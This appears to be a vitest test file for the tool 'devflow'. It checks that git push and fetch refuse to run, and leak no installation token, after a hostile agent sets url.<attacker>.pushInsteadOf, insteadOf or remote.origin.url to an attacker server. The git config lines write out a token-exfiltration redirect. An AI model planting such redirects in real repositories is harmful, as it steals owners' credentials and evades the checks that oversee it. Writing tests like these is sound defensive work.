// An agent rewrites where devflow's git sends the installation token: url.<attacker>.pushInsteadOf (or
// insteadOf) in the mirror's config, or the mirror's remote URL. A local "attacker" HTTP server records
// every request and the Authorization header it carried; it must receive nothing.
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { commitCheckpoint, ensureMirror, pushCheckpoint } from "../../src/git/index.js";
import { createRemote, git, isolate, type TestRemote } from "./git-fixture.js";
import { newHostileRun, refusedAsTampered } from "./hostile-fixture.js";

const TOKEN = "ghs_canary0d9e8c7b6a5f4e3d2c1b";
const AUTH_HEADER = `AUTHORIZATION: basic ${Buffer.from(`x-access-token:${TOKEN}`).toString("base64")}`;

let root: string;
let cleanup: () => Promise<void>;
let remote: TestRemote;
let attacker: Server;
let attackerUrl: string;
const received: { url: string | undefined; authorization: string | undefined }[] = [];
beforeAll(async () => {
  ({ root, cleanup } = await isolate());
  remote = await createRemote(root);
  attacker = createServer((request, response) => {
    received.push({ url: request.url, authorization: request.headers.authorization });
    response.writeHead(404).end();
  });
  await new Promise<void>((resolve) => attacker.listen(0, "127.0.0.1", resolve));
  attackerUrl = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}/`;
});
afterAll(async () => {
  await new Promise((resolve) => attacker.close(resolve));
  await cleanup();
});

describe("devflow's git and a token redirect the agent planted", () => {
  it("refuses to push after url.<attacker>.pushInsteadOf was set, and the token never reaches the attacker", async () => {
    const run = await newHostileRun(root, remote);
    await commitCheckpoint({ ...run, message: "devflow: spec" });
    await git(run.worktreePath, "config", `url.${attackerUrl}.pushInsteadOf`, remote.url);
    received.length = 0;
    const push = pushCheckpoint({ ...run, moveBranch: true, remoteUrl: remote.url, authHeader: AUTH_HEADER });
    await push.catch(() => undefined);
    expect(received).toEqual([]);
    const refusal = await refusedAsTampered(push, TOKEN, AUTH_HEADER);
    expect(refusal.message).toContain(`\`url.${attackerUrl}.pushinsteadof\``);
    // The commit before it would have been refused as well: the config is checked before every command.
    await refusedAsTampered(commitCheckpoint({ ...run, message: "devflow: implement" }));
    expect(await remote.sha(`refs/heads/${run.branch}`)).toBe("");
  });

  it("refuses to fetch after url.<attacker>.insteadOf was set, and the token never reaches the attacker", async () => {
    const run = await newHostileRun(root, remote);
    await git(run.worktreePath, "config", `url.${attackerUrl}.insteadOf`, remote.url);
    received.length = 0;
    const fetch = ensureMirror({
      mirrorsDir: join(run.mirrorPath, ".."),
      repository: "octo/demo",
      cloneUrl: remote.url,
      authHeader: AUTH_HEADER,
      branches: ["main", run.branch],
    });
    await fetch.catch(() => undefined);
    expect(received).toEqual([]);
    await refusedAsTampered(fetch, TOKEN, AUTH_HEADER);
  });

  it("pushes and fetches the URL it was given, whatever remote.origin.url the agent set", async () => {
    const run = await newHostileRun(root, remote);
    await git(run.worktreePath, "config", "remote.origin.url", attackerUrl);
    received.length = 0;
    const { sha } = await commitCheckpoint({ ...run, message: "devflow: spec" });
    await pushCheckpoint({ ...run, moveBranch: true, remoteUrl: remote.url, authHeader: AUTH_HEADER });
    await ensureMirror({
      mirrorsDir: join(run.mirrorPath, ".."),
      repository: "octo/demo",
      cloneUrl: remote.url,
      authHeader: AUTH_HEADER,
      branches: ["main", run.branch],
    });
    expect(received).toEqual([]);
    expect(await remote.sha(`refs/heads/${run.branch}`)).toBe(sha);
  });
});
